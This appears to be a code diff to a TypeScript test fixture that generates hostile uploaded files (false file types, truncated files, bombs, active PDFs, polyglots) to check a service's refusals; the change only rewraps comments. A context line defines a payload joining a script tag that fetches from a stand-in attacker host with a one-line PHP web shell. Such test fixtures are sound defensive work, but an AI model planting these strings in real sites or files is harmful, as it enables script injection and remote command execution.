@@ -2,7 +2,10 @@ import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { pdfOf } from './pdf.ts'
 
-/** A file that somebody sends to do harm. `expected`: the code of its refusal; null if only its pixels may survive. */
+/**
+ * A file that somebody sends to do harm. `expected`: the code of its refusal; null if only its pixels may
+ * survive.
+ */
 export type HostileFile = { name: string; bytes: Buffer; expected: string | null }
 
 export const payload = '<script>fetch("//evil.example")</script><?php system($_GET[0]); ?>'
@@ -178,7 +181,10 @@ const cuts = (name: string, whole: Buffer, count: number): HostileFile[] =>
     return { name: `${name}-cut-${length}`, bytes: whole.subarray(0, length), expected: wrongKind }
   })
 
-/** Generates hostile files of every sort: other formats by false names, cut and damaged ones, bombs, active PDFs, and two files in one, and names that lead elsewhere. */
+/**
+ * Generates hostile files of every sort: other formats by false names, cut and damaged ones, bombs, active
+ * PDFs, and two files in one, and names that lead elsewhere.
+ */
 export async function hostileFiles(): Promise<HostileFile[]> {
   const [png, jpeg, pdf] = [await photo('png'), await photo('jpeg'), pdfOf(3_000)]
   const files: HostileFile[] = []
